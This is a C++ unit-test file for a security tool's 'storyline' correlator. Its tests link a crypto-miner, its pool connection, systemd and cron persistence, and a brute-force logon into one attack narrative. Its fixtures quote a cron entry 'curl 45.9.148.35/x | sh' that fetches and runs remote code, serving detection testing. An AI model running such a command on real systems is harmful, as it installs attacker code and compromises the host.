#include "correlate/storyline.h"

#include <gtest/gtest.h>

namespace msw::correlate {
namespace {

model::Finding finding(std::string rule, model::Severity sev, std::string title, std::string excerpt = "",
                       std::string path = "x", uint64_t line = 0) {
  model::Finding f;
  f.rule_id = std::move(rule);
  f.severity = sev;
  f.title_en = title;
  f.title_zh = title;
  f.evidence.push_back({std::move(path), "", 0, 0, line, std::move(excerpt)});
  return f;
}

TEST(Storyline, LinksPersistenceByProgramFolderOrPoolNotByPresence) {
  std::vector<model::Finding> fs;
  auto miner = finding("heuristic.miner_process", model::Severity::Critical, "Crypto miner running: PID 77 /var/tmp/.sys/upd");
  miner.observables = {{model::ObservableKind::FilePath, "/var/tmp/.sys/upd", "process 77"},
                       {model::ObservableKind::Sha256, "ab", "process 77"}};
  miner.attack = {"T1496", "T1070.004"};
  fs.push_back(miner);
  auto pool = finding("heuristic.pool_port_connection", model::Severity::Medium, "pool", "45.9.148.35:3333");
  pool.observables = {{model::ObservableKind::Ip, "45.9.148.35", "PID 77 /var/tmp/.sys/upd"}};
  fs.push_back(pool);
  // Names the miner's own folder (not a shared one): linked.
  fs.push_back(finding("heuristic.autostart_runs_from_temp", model::Severity::Medium, "unit", "ExecStart=/var/tmp/.sys/run.sh",
                       "/etc/systemd/system/sys.service", 3));
  // Names the pool address: linked.
  fs.push_back(finding("heuristic.cron_download_exec", model::Severity::High, "cron", "curl 45.9.148.35/x | sh",
                       "/etc/crontab", 9));
  // Mentions only /tmp, a shared folder: present on the host, not linked.
  fs.push_back(finding("heuristic.cron_runs_from_temp", model::Severity::Medium, "other cron", "/tmp/cleanup.sh"));
  auto entry = finding("heuristic.brute_force_then_logon", model::Severity::Critical, "guess ok");
  entry.description_en = "... The address is internal: ...";
  entry.observables = {{model::ObservableKind::Ip, "10.1.2.3", "logon source"}};
  fs.push_back(entry);

  Storyline s = build_storyline(fs);
  std::vector<std::pair<StepKind, bool>> kinds;
  for (const auto& st : s.steps) kinds.emplace_back(st.kind, st.linked);
  const std::vector<std::pair<StepKind, bool>> want = {
      {StepKind::Entry, true},       {StepKind::Miner, true},       {StepKind::Executable, true},
      {StepKind::Connection, true},  {StepKind::Persistence, true}, {StepKind::Persistence, true},
      {StepKind::Persistence, false}, {StepKind::NextHost, true}};
  EXPECT_EQ(kinds, want);
  EXPECT_NE(s.steps[2].text_en.find("deleted"), std::string::npos);
  EXPECT_NE(s.summary_en.find("miner PID 77 upd → pool 45.9.148.35:3333; restarted by /etc/systemd/system/sys.service:3"),
            std::string::npos)
      << s.summary_en;
  EXPECT_NE(s.steps.back().text_en.find("10.1.2.3"), std::string::npos);
}

TEST(Storyline, NothingToTellOnACleanHost) {
  std::vector<model::Finding> fs{finding("heuristic.dropped_executable", model::Severity::Low, "build tree")};
  Storyline s = build_storyline(fs);
  EXPECT_TRUE(s.steps.empty());
  EXPECT_TRUE(s.summary_en.empty());
}

}  // namespace
}  // namespace msw::correlate
